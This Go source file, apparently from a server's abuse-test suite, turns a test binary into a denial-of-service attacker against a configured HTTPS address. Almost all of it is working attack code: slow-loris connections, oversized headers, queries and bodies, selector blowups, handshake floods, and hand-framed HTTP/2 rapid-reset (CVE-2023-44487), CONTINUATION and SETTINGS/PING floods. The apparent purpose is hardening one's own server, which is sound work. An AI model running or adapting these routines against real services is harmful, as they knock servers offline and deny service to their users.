package abuse

import (
	"bytes"
	"cmp"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackEnv makes this binary a process that attacks rather than tests.
const attackEnv = "PORTICO_ATTACK"

// A plan is what such a process does until it is told to stop.
type plan struct {
	Kinds   []string
	Workers int // of each kind
	Address string
	CA      []byte
	Token   string
}

// attacker is one worker of a plan.
type attacker struct {
	plan
	tls    *tls.Config
	client *http.Client // with connections of its own
}

// attacks are what workers do again and again, as fast as they can.
var attacks = map[string]func(a *attacker, ctx context.Context){
	"lists":         (*attacker).lists,
	"unread-lists":  (*attacker).unreadLists,
	"watch-churn":   (*attacker).watchChurn,
	"headers":       (*attacker).headers,
	"queries":       (*attacker).queries,
	"selectors":     (*attacker).selectors,
	"tokens":        (*attacker).tokens,
	"bodies":        (*attacker).bodies,
	"slow-loris":    (*attacker).slowLoris,
	"handshakes":    (*attacker).handshakes,
	"resets":        (*attacker).resets,
	"continuations": (*attacker).continuations,
	"settings":      (*attacker).settings,
}

// attackAs runs the plan in text until standard input ends.
func attackAs(text string) int {
	var p plan
	if err := json.Unmarshal([]byte(text), &p); err != nil {
		fmt.Fprintln(os.Stderr, "read plan:", err)
		return 2
	}
	if err := giveWay(); err != nil {
		fmt.Fprintln(os.Stderr, "give way:", err)
		return 2
	}
	ctx, cancel := signal.NotifyContext(context.Background(), syscall.SIGTERM)
	defer cancel()
	go func() { _, _ = io.Copy(io.Discard, os.Stdin); cancel() }()
	var wg sync.WaitGroup
	for _, kind := range p.Kinds {
		for range p.Workers {
			wg.Go(func() {
				a := newAttacker(p)
				defer a.client.CloseIdleConnections()
				for ctx.Err() == nil {
					attacks[kind](a, ctx)
				}
			})
		}
	}
	wg.Wait()
	return 0
}

func newAttacker(p plan) *attacker {
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(p.CA)
	host, _, _ := net.SplitHostPort(p.Address)
	a := &attacker{plan: p, tls: &tls.Config{RootCAs: roots, ServerName: host, MinVersion: tls.VersionTLS13}}
	a.client = &http.Client{Transport: &http.Transport{TLSClientConfig: a.tls.Clone(), ForceAttemptHTTP2: true}}
	return a
}

// message is a request. Without a token it has the attacker's own.
type message struct {
	method, path, token string
	header              http.Header
	body                string
	read                int64 // how much of the answer is read, in bytes; 0 is all
}

// do sends a request and reads what comes of it.
func (a *attacker) do(ctx context.Context, m message) {
	r, err := http.NewRequestWithContext(ctx, cmp.Or(m.method, http.MethodGet), "https://"+a.Address+m.path, strings.NewReader(m.body))
	if err != nil {
		return
	}
	if m.header != nil {
		r.Header = m.header
	}
	r.Header.Set("Authorization", "Bearer "+cmp.Or(m.token, a.Token))
	res, err := a.client.Do(r)
	if err != nil {
		return
	}
	defer res.Body.Close()
	_, _ = io.CopyN(io.Discard, res.Body, cmp.Or(m.read, 1<<40))
}

func (a *attacker) lists(ctx context.Context) {
	for _, path := range []string{collection, collection + "?resourceVersion=0"} {
		a.do(ctx, message{path: path})
	}
}

// unreadLists asks for many at once on one connection and reads none.
func (a *attacker) unreadLists(ctx context.Context) {
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	var wg sync.WaitGroup
	for range 50 {
		wg.Go(func() {
			r, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+a.Address+collection+"?resourceVersion=0", nil)
			if err != nil {
				return
			}
			r.Header.Set("Authorization", "Bearer "+a.Token)
			res, err := a.client.Do(r)
			if err != nil {
				return
			}
			defer res.Body.Close()
			<-ctx.Done()
		})
	}
	wg.Wait()
}

func (a *attacker) watchChurn(ctx context.Context) {
	a.do(ctx, message{path: collection + "?watch=1&resourceVersion=0", read: 1})
}

func (a *attacker) headers(ctx context.Context) {
	long := http.Header{}
	for i := range 30 {
		long.Set(fmt.Sprint("X-Long-", i), strings.Repeat("x", 30<<10))
	}
	a.do(ctx, message{path: collection + "?limit=1", header: long})
}

func (a *attacker) queries(ctx context.Context) {
	a.do(ctx, message{path: collection + "?limit=1&" + strings.Repeat("a=b&", 100<<10)})
}

func (a *attacker) selectors(ctx context.Context) {
	var names []string
	for range 1000 {
		names = append(names, fmt.Sprintf("n%d", rand.Int64()))
	}
	a.do(ctx, message{path: collection + "?resourceVersion=0&labelSelector=x+in+(" + strings.Join(names, ",") + ")"})
}

func (a *attacker) tokens(ctx context.Context) {
	a.do(ctx, message{path: collection + "?resourceVersion=0", token: fmt.Sprint("bad", rand.Int64())})
}

func (a *attacker) bodies(ctx context.Context) {
	huge := `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"generateName":"x-"},"data":{"a":"` + strings.Repeat("x", 4<<20) + `"}}`
	a.do(ctx, message{method: http.MethodPost, path: collection + "?dryRun=All", header: http.Header{"Content-Type": {"application/json"}}, body: huge})
}

// slowLoris opens connections that never finish what they have to say.
func (a *attacker) slowLoris(ctx context.Context) {
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	for range 40 {
		c := a.dial(ctx, "http/1.1")
		if c == nil {
			continue
		}
		defer c.Close()
		_, _ = io.WriteString(c, "GET "+collection+" HTTP/1.1\r\nHost: x\r\nX-Slow: ")
	}
	<-ctx.Done()
}

func (a *attacker) handshakes(ctx context.Context) {
	if c := a.dial(ctx, "h2"); c != nil {
		c.Close()
	}
}

// dial returns a connection after its handshake, or nil.
func (a *attacker) dial(ctx context.Context, protocol string) net.Conn {
	c := a.tls.Clone()
	c.NextProtos = []string{protocol}
	conn, err := (&tls.Dialer{Config: c}).DialContext(ctx, "tcp", a.Address)
	if err != nil {
		return nil
	}
	return conn
}

// framing speaks HTTP/2 by hand on a connection of its own until say fails.
func (a *attacker) framing(ctx context.Context, say func(f *http2.Framer, stream uint32) error) {
	c := a.dial(ctx, "h2")
	if c == nil {
		return
	}
	defer context.AfterFunc(ctx, func() { c.Close() })()
	defer c.Close()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	f := http2.NewFramer(c, nil)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil || f.WriteSettings() != nil {
		return
	}
	for stream := uint32(1); stream < 1<<30 && ctx.Err() == nil; stream += 2 {
		if say(f, stream) != nil {
			return
		}
	}
}

// block is a request's header, as HTTP/2 packs it.
func (a *attacker) block() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{
		{":method", "GET"}, {":scheme", "https"}, {":authority", a.Address}, {":path", collection}, {"authorization", "Bearer " + a.Token},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return b.Bytes()
}

// resets is the attack of CVE-2023-44487.
func (a *attacker) resets(ctx context.Context) {
	a.framing(ctx, func(f *http2.Framer, stream uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.block(), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// continuations is the attack of CVE-2023-45288.
func (a *attacker) continuations(ctx context.Context) {
	a.framing(ctx, func(f *http2.Framer, stream uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.block()}); err != nil {
			return err
		}
		var b bytes.Buffer
		_ = hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: "x-more", Value: strings.Repeat("x", 10<<10), Sensitive: true})
		for ctx.Err() == nil {
			if err := f.WriteContinuation(stream, false, b.Bytes()); err != nil {
				return err
			}
		}
		return ctx.Err()
	})
}

// settings are frames that have to be answered, and whose answers nobody reads.
func (a *attacker) settings(ctx context.Context) {
	a.framing(ctx, func(f *http2.Framer, stream uint32) error {
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}); err != nil {
			return err
		}
		return f.WritePing(false, [8]byte{byte(stream)})
	})
}
